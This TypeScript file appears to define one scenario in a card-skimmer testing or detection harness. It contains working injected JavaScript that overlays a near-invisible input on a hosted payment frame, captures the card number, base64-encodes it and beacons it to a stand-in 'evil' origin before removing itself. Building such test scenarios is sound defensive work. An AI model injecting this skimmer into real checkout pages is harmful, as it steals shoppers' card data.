import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';

export default skimmer({
  id: 'transparent-input',
  why: "An input nobody sees lies over the place of the number in the provider's frame, takes the keys, and goes away: the customer thinks the click did not count.",
  covers: ['hard: overlay', 'reading: every input'],
  base: 'hosted',
  install: (site) =>
    site.append(js`(function () {
  var trap = document.createElement('input');
  trap.autocomplete = 'cc-number';
  trap.style.cssText = 'position:absolute;top:0;left:0;height:90px;opacity:0.01;z-index:7';
  document.getElementById('card-area').append(trap);
  trap.addEventListener('blur', function () {
    if (trap.value.length < 14) return;
    new Image().src = '${site.origins.evil}/ti.gif?d=' + encodeURIComponent(btoa(trap.value));
    trap.remove();
  });
})();`),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
